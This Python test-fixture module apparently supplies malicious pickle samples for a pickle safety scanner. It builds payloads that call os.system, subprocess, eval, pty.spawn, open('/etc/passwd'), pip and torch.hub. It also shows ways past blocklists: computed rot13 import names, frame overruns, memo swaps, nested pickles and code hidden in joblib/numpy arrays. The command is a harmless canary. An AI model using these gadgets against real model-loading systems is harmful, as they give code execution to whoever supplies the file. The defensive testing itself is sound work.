# SPDX-License-Identifier: Apache-2.0
"""Pickles that do harm through names which lists of bad names forget, or that two readers understand differently.

Each is a function that writes the bytes; none is ever opened by the tests but with readers that bring nothing to life.
The commands are harmless.
"""

from __future__ import annotations

import io
import pickle
import struct
from collections.abc import Callable

import numpy as np

COMMAND = "touch /nonexistent/canary"


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """Write a call of an import with arguments that are written already."""
    return f"c{module}\n{name}\n(".encode() + b"".join(arguments) + b"tR"


def whole(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def plain(module: str, name: str, *arguments: str) -> Callable[[], bytes]:
    return lambda: whole(call(module, name, *map(text, arguments)))


def behind_a_frame() -> bytes:
    """The frame is longer than the file: one reader stops there, another one reads on."""
    return b"\x80\x04\x95" + struct.pack("<Q", 1 << 20) + call("os", "system", text(COMMAND)) + b"."


def across_a_frame() -> bytes:
    """An instruction begins in one frame and ends behind it."""
    body = text(COMMAND)
    return b"\x80\x04\x95" + struct.pack("<Q", 3) + body + b"0" + call("posix", "system", text(COMMAND)) + b"."


def frame_in_a_frame() -> bytes:
    inner = b"\x95" + struct.pack("<Q", 1) + b"N"
    return b"\x80\x04\x95" + struct.pack("<Q", 64) + inner + call("os", "system", text(COMMAND)) + b"."


def computed_name() -> bytes:
    """The name that is imported is the answer of a call, and in no text of the file."""
    joined = call("_codecs", "decode", text("flfgrz"), text("rot13"))
    return b"\x80\x04" + text("os") + joined + b"\x93(" + text(COMMAND) + b"tR."


def memo_swap() -> bytes:
    """A harmless name and a harmful one share a place in the memo."""
    first, second = b"ccollections\nOrderedDict\nq\x000", b"cos\nsystem\nq\x000"
    return whole(first + second + b"h\x00(" + text(COMMAND) + b"tR")


def nested() -> bytes:
    inner = whole(call("os", "system", text(COMMAND)))
    return b"\x80\x03cpickle\nloads\nC" + bytes([len(inner)]) + inner + b"\x85R."


def in_numbers() -> bytes:
    """What stands where an array's numbers should be, for a reader that does not know joblib; described oddly."""
    wrapper = b"\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + text("dtype") + text("f8")
    return wrapper + text("shape") + b"K\x02\x85ub." + whole(call("os", "system", text(COMMAND)))


def wrapper_by_detour() -> bytes:
    """joblib reads numbers behind an object that a listed function made; to others it is no such object."""
    made = call("pandas.core.indexes.base", "_new_Index", b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n", b"}")
    dtype = call("numpy", "dtype", text("S1"))
    state = b"}(" + text("dtype") + dtype + text("shape") + b"K\x01\x85" + text("order") + text("C")
    state += text("subclass") + b"cnumpy\nndarray\n" + text("allow_mmap") + b"\x89u"
    hidden = call("os", "system", text(COMMAND)) + b"."
    return b"\x80\x03" + made + state + b"bC" + bytes([len(hidden)]) + hidden + b"."


def wrapper_again() -> bytes:
    """The same description is used for a second array, with what the first one said."""
    state = (
        b"}("
        + text("dtype")
        + call("numpy", "dtype", text("S1"))
        + text("shape")
        + b"K\x01\x85"
        + text("order")
        + text("C")
    )
    state += text("subclass") + b"cnumpy\nndarray\n" + text("allow_mmap") + b"\x89u"
    made = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81q\x01"
    return b"\x80\x03" + made + state + b"bx0h\x01" + state + b"bC" + b"\x01x" + b"."


def objects_called_numbers() -> bytes:
    """A type of numpy with a field of objects, whose state says that it has none: bytes become pointers."""
    inner = call("numpy", "dtype", text("O8"), b"\x89", b"\x88")
    state = b"(K\x03" + text("|") + b"N" + text("a") + b"\x85}" + text("a") + inner + b"K\x00\x86s"
    return whole(call("numpy", "dtype", text("V8"), b"\x89", b"\x88") + state + b"K\x08K\x01K\x10tb")


def field_beyond() -> bytes:
    """A type whose field lies outside of it."""
    inner = call("numpy", "dtype", text("f8"), b"\x89", b"\x88")
    state = b"(K\x03" + text("|") + b"N" + text("a") + b"\x85}" + text("a") + inner + b"M\x00\x10\x86s"
    return whole(call("numpy", "dtype", text("V8"), b"\x89", b"\x88") + state + b"K\x08K\x01K\x10tb")


def number_called_object() -> bytes:
    """A simple type of objects that says it is numbers."""
    state = b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    return whole(call("numpy", "dtype", text("O8"), b"\x89", b"\x88") + state)


def in_objects() -> bytes:
    """An array of objects of joblib is a pickle of its own."""
    import joblib

    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return eval, ("1",)

    array, sink = np.empty(1, dtype=object), io.BytesIO()
    array[0] = Payload()
    joblib.dump({"a": array, "b": np.zeros(4)}, sink)
    return sink.getvalue()


def behind_numbers() -> bytes:
    import joblib

    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return eval, ("1",)

    sink = io.BytesIO()
    joblib.dump([np.arange(1000.0), Payload()], sink, compress=("xz", 3))
    return sink.getvalue()


def code_by_value() -> bytes:
    import types

    import cloudpickle

    module = types.ModuleType("__main__")
    exec("def score(x):\n    return x", module.__dict__)
    return bytes(cloudpickle.dumps(module.score))


def second_pickle() -> bytes:
    return pickle.dumps([1, 2, 3], 4) + whole(call("os", "system", text(COMMAND)))


def changed_import() -> bytes:
    """Sets an attribute of a class instead of an object."""
    return whole(b"csklearn.dummy\nDummyClassifier\nN}" + text("predict") + b"cbuiltins\nprint\ns\x86b")


def called_call() -> bytes:
    """Calls what a call gave."""
    made = call("functools", "partial", b"ccollections\nCounter\n")
    return whole(made + b")R")


GADGETS: dict[str, Callable[[], bytes]] = {
    "os.system": plain("os", "system", COMMAND),
    "nt.system": plain("nt", "system", COMMAND),
    "subprocess": plain("subprocess", "getoutput", COMMAND),
    "eval": plain("builtins", "eval", "1"),
    "exec of Python 2": plain("__builtin__", "eval", "1"),
    "exec": plain("builtins", "exec", "pass"),
    "getattr": lambda: whole(call("builtins", "getattr", b"cos\nenviron\n", text("get"))),
    "import": plain("builtins", "__import__", "os"),
    "open": plain("builtins", "open", "/etc/passwd"),
    "type": lambda: whole(call("builtins", "type", text("X"), b"(t", b"}")),
    "subinterpreter": plain("_xxsubinterpreters", "run_string", "0", "1"),
    "mlflow command": plain("mlflow.utils.process", "_exec_cmd", COMMAND),
    "yaml": plain("yaml", "unsafe_load", "!!python/object/apply:os.system [id]"),
    "numpy runstring": plain("numpy.testing._private.utils", "runstring", "1", "2"),
    "numpy load": plain("numpy", "load", "other.npy"),
    "numpy memmap writes": plain("numpy", "memmap", "/nonexistent/x"),
    "numpy ufunc by name": plain("numpy.core", "_ufunc_reconstruct", "os", "system"),
    "torch hub": plain("torch.hub", "load", "someone/repository", "model"),
    "torch jit": plain("torch.jit", "load", "other.pt"),
    "torch load from bytes": plain("torch.storage", "_load_from_bytes", "x"),
    "torch compiled": plain("torch._inductor.codecache", "PyCodeCache.load", "1"),
    "joblib load": plain("joblib.numpy_pickle", "load", "other.pkl"),
    "joblib of other files": plain("joblib.numpy_pickle_compat", "NDArrayWrapper", "other.npy", "x"),
    "scipy distribution": plain("scipy.stats._continuous_distns", "norm_gen"),
    "scipy frozen distribution": plain("scipy.stats._distn_infrastructure", "rv_continuous_frozen"),
    "pandas eval": plain("pandas.core.computation.eval", "eval", "1"),
    "pandas pickle": plain("pandas.io.pickle", "read_pickle", "https://example.org/x"),
    "logging": plain("logging.config", "_resolve", "os.system"),
    "pydoc": plain("pydoc", "pipepager", "x", COMMAND),
    "code": plain("code", "InteractiveInterpreter"),
    "timeit": plain("timeit", "timeit", "1"),
    "pty": plain("pty", "spawn", COMMAND),
    "ctypes": plain("ctypes", "CDLL", "libc.so.6"),
    "operator": plain("operator", "methodcaller", "system", COMMAND),
    "webbrowser": plain("webbrowser", "open", "https://example.org"),
    "pip": plain("pip", "main", "install x"),
    "setuptools": plain("setuptools", "setup"),
    "namedtuple": plain("collections", "namedtuple", "X", "a"),
    "dotted name": lambda: b"\x80\x04" + text("collections") + text("abc.sys.modules") + b"\x93.",
    "extension registry": lambda: b"\x80\x02\x82\x01.",
    "frame beyond the file": behind_a_frame,
    "instruction across a frame": across_a_frame,
    "frame in a frame": frame_in_a_frame,
    "computed name": computed_name,
    "memo": memo_swap,
    "nested pickle": nested,
    "pickle in joblib's numbers": in_numbers,
    "objects called numbers": objects_called_numbers,
    "field beyond its type": field_beyond,
    "object called a number": number_called_object,
    "array by a detour": wrapper_by_detour,
    "array described twice": wrapper_again,
    "array of objects": in_objects,
    "behind compressed numbers": behind_numbers,
    "code by value": code_by_value,
    "second pickle": second_pickle,
    "changed class": changed_import,
    "called call": called_call,
}
